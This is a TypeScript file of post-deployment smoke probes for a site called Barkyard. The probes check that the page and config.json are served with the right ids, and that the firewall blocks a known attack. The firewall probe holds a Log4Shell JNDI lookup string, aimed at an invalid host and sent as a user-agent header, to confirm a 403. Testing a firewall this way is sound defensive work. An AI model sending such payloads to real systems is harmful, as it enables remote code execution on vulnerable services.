import { readJson } from '#shared/core/json';
import { demand, type Probe } from './probe.ts';

/** Known to every scanner: Log4Shell. */
const ATTACK = '$' + '{jndi:ldap://smoke.invalid/a}';

export const pages: Probe = {
  name: 'the site is served, with the ids of this deployment',
  look: 'the stack BarkyardSite, and the behaviour * of the distribution',
  inapplicable: ({ isLocal }) => (isLocal ? 'the local AWS that tests use serves no files' : undefined),
  async run({ site, outputs }) {
    const page = await fetch(site);
    demand(page.ok && /<!doctype html>/i.test(await page.text()), `The page was answered with ${page.status}.`);
    const config = await fetch(`${site}/config.json`);
    const found = JSON.stringify(readJson(await config.text()));
    demand(found.includes(outputs.UserPoolClientId), `config.json names another client: ${found}`);
    demand(found.includes(outputs.PushKey), `config.json has another key of pushes: ${found}`);
    return undefined;
  },
};

export const firewall: Probe = {
  name: 'the firewall stops a known attack at the site',
  look: 'the stack BarkyardFirewall in us-east-1, and the web ACL of the distribution',
  inapplicable({ hasWaf, isLocal }) {
    if (isLocal) return 'the local AWS has no firewall';
    return hasWaf ? undefined : 'waf is false';
  },
  async run({ site }) {
    const { status } = await fetch(`${site}/api/health`, { headers: { 'user-agent': ATTACK } });
    demand(status === 403, `It was answered with ${status}.`);
    return undefined;
  },
};
